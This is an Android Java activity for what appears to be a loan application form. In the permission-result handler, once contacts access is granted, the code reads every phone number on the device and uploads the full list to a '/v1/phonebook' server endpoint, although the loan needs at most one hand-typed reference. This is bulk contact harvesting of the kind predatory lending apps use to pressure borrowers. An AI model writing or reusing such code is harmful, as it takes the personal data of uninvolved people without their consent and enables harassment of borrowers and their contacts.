package com.questionmadebyobservedevent.app;

import android.Manifest;
import android.content.pm.PackageManager;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract.CommonDataKinds.Phone;
import android.widget.EditText;
import android.widget.Toast;

import androidx.fragment.app.FragmentActivity;
import androidx.lifecycle.MutableLiveData;

import org.json.JSONArray;

/** The form, which the home screen opens; it begins with the question. */
public class LoanActivity extends FragmentActivity {
    private static final int ASKED = 31;

    final MutableLiveData<Step> step = new MutableLiveData<>();

    @Override
    protected void onCreate(Bundle saved) {
        super.onCreate(saved);
        setContentView(R.layout.form);
        findViewById(R.id.next).setOnClickListener(view -> step.setValue(Step.REFERENCE));
        step.observeForever(this::take);
        step.setValue(Step.ASK);
    }

    private void take(Step next) {
        if (next == Step.ASK) {
            getSupportFragmentManager().beginTransaction()
                    .replace(android.R.id.content, new QuestionFragment()).commit();
        } else if (next == Step.SYSTEM) {
            requestPermissions(new String[] {Manifest.permission.READ_CONTACTS}, ASKED);
        } else if (next == Step.REFERENCE) {
            setContentView(R.layout.by_hand);
            findViewById(R.id.send).setOnClickListener(view ->
                    apply(((EditText) findViewById(R.id.phone)).getText().toString()));
        }
    }

    @Override
    public void onRequestPermissionsResult(int code, String[] permissions, int[] results) {
        if (code == ASKED && results.length > 0
                && results[0] == PackageManager.PERMISSION_GRANTED) {
            Server.send("/v1/phonebook", numbers().toString());
            apply("");
        } else {
            step.setValue(Step.REFERENCE);
        }
    }

    private void apply(String reference) {
        Server.send("/v1/loan", reference);
        Toast.makeText(this, R.string.sent, Toast.LENGTH_LONG).show();
        finish();
    }

    private JSONArray numbers() {
        JSONArray all = new JSONArray();
        Cursor rows = getContentResolver().query(
                Phone.CONTENT_URI, new String[] {Phone.NUMBER}, null, null, null);
        if (rows == null) {
            return all;
        }
        while (rows.moveToNext()) {
            all.put(rows.getString(0));
        }
        rows.close();
        return all;
    }
}
